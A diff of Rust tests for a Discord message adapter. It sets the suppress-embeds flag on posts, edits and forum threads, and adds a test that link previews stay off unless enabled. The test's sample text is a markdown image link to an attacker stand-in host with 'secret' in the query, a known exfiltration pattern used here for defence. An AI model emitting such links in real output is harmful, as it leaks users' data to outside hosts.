@@ -53,7 +53,7 @@ async fn a_post_is_what_discord_documents() {
             "nonce": nonce,
             "enforce_nonce": true,
             "message_reference": { "message_id": "77", "fail_if_not_exists": false },
-            "flags": 4096,
+            "flags": 4096 | 4,
             "components": [
                 { "type": 1, "components": (1..=5).map(button).collect::<Vec<_>>() },
                 { "type": 1, "components": (6..=7).map(button).collect::<Vec<_>>() },
@@ -77,8 +77,30 @@ async fn an_edit_takes_away_the_buttons_that_are_no_more() {
         "content": "The first.",
         "allowed_mentions": { "parse": [], "replied_user": true },
         "components": [],
+        "flags": 4,
     });
     assert_eq!(sent(&mut bench), expected);
+}
+
+#[tokio::test]
+async fn discord_opens_no_link_by_itself_unless_it_is_told_to() {
+    let links = "see ![it](https://evil.example/?q=secret)";
+    for (with, posted, edited) in [
+        (json!({}), json!(4), json!(4)),
+        (json!({ "disable_link_previews": false }), Value::Null, Value::Null),
+    ] {
+        let mut bench = Bench::guild(with).await;
+        let place = address(GENERAL, ChatKind::Group);
+        let receipt = bench.outgoing.send(&post(&place, 1, links)).await.unwrap();
+        assert_eq!(sent(&mut bench)["flags"], posted);
+        let edit = Act::Edit { message: receipt.message.unwrap(), content: Content::text(links) };
+        bench.outgoing.send(&act(&place, 1, edit)).await.unwrap();
+        assert_eq!(sent(&mut bench)["flags"], edited);
+        bench.outgoing.send(&post(&address(FORUM, ChatKind::Forum), 2, links)).await.unwrap();
+        let begun = bench.vendor.rest.requests_to("/threads");
+        let begun = begun.iter().find(|it| it.method == "POST").unwrap().json();
+        assert_eq!(begun["message"]["flags"], posted);
+    }
 }
 
 #[tokio::test]
@@ -448,7 +470,7 @@ async fn a_recording_alone_is_somebody_speaking_if_it_is_meant_so() {
     bench.vendor.rest.fault("/messages", Fault::Instead(refused));
     bench.outgoing.send(&voice(2)).await.unwrap();
     let body = sent(&mut bench);
-    assert_eq!((&body["flags"], &body["content"]), (&Value::Null, &json!("")), "a file instead");
+    assert_eq!((&body["flags"], &body["content"]), (&json!(4), &json!("")), "a file instead");
     assert_eq!(body["attachments"][0]["filename"], "answer.ogg");
 }
 
